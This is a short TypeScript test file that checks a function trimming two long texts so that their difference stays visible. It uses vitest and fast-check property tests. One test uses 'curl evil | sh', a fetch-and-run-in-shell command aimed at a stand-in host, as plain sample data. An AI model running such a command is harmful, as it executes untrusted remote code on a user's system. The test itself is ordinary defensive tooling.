import fc from 'fast-check';
import { expect, it } from 'vitest';
import { excerptDifference } from './excerpt.js';

it('leaves short texts as they are', () => {
  expect(excerptDifference('a', 'b', 10)).toEqual(['a', 'b']);
});

it('shows what changed behind a long beginning', () => {
  const [before, after] = excerptDifference(
    `${'x'.repeat(900)}SAFE`,
    `${'x'.repeat(900)}curl evil | sh`,
    200,
  );
  expect([before.startsWith('…x'), before.endsWith('xSAFE'), after.endsWith('xcurl evil | sh')]).toEqual([
    true,
    true,
    true,
  ]);
});

it('never shows the same of two texts that differ, nor more than was asked for', () => {
  const text = fc.string({ maxLength: 300 }).map((end) => `${'ab'.repeat(150)}${end}`);
  fc.assert(
    fc.property(text, text, fc.integer({ min: 100, max: 200 }), (a, b, length) => {
      fc.pre(a !== b);
      const [before, after] = excerptDifference(a, b, length);
      expect(before).not.toBe(after);
      expect(Math.max(before.length, after.length)).toBeLessThanOrEqual(length + 2);
    }),
  );
});
